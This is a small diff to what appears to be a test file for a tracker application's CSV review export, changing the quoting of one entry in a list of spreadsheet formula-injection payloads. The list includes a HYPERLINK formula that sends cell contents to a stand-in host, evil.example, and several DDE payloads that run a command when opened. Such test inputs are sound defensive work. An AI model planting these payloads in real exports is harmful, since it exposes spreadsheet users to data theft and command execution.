@@ -15,7 +15,7 @@ from tracker.services.sprints import sprint_add_items, sprint_create, sprint_sta
 from tracker.web.exports import review_csv
 
 FORMULAS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
